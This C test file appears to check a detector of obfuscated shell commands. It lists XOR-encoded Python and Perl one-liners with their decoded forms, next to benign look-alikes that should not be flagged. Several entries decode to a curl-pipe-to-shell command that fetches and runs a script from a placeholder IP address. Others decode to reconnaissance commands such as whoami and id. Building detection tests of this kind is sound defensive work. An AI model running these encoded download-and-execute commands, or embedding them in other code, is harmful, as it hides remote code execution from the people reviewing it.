// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "base64+xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(bytes(b^0x41 for b in base64"
		".b64decode('IjQzLWFsMmEpNTUxe25ucHh5b3Rwb3BxcW92bjk9Mik=')))"
		"\"" },
	{ "hex+xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(chr(c^65) for c in bytes.fromhex('"
		"2234332d616c3261293535317b6e6e7078796f74706f7071716f766e393d"
		"3229')))\"" },
	{ "xor", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec(''.join(chr(c ^ 0x41) for c in [34,52,51,4"
		"5,97,108,50,97,41,53,53,49,123,110,110,112,120,121,111,116,1"
		"12,111,112,113,113,111,118,110,57,61,50,41]))\"" },
	/* The key: another string, one that is repeated, a list, a variable. */
	{ "base64+xor", "whoami",
		"python3 -c \"import base64;k='waEHle';exec(''.join(chr(a^ord"
		"(b)) for a,b in zip(base64.b64decode('AAkqKQEM'),k)))\"" },
	{ "hex+xor", "uname -a; id",
		"perl -e 'system(pack(\"H*\",\"3e252a262e6b662a706b222f\")^("
		"\"K\"x12))'" },
	{ "hex+xor", "uname -a; id",
		"python3 -c 'k=[75];exec(bytes(x^k[i%1] for i,x in enumerate("
		"bytes.fromhex(\"3e252a262e6b662a706b222f\"))))'" },
};

static const char *const not [] = {
	"python3 -c 'print(5 ^ 3)'",
	"ls | grep ^2024",
	"xor 12 34 'plain text'",
	/* A key that gives no text, and bytes that no key makes one of. */
	"python3 -c 'h=0x1f;print(bytes([1,2,3]),h ^ 7,bytes([17,33,5]))'",
	"python3 -c 'k=\"abc\";print([a^b for a,b in zip(b\"\\x91\\x91\\x91"
	"\\x91\\x91\",bytes([92,93,94,95]))])'",
	"perl -e 'printf \"%c\", 3 ^ 5; print pack(\"C*\",1,2,3,4,5,6)'",
};

HIDDEN_MAIN("xor")
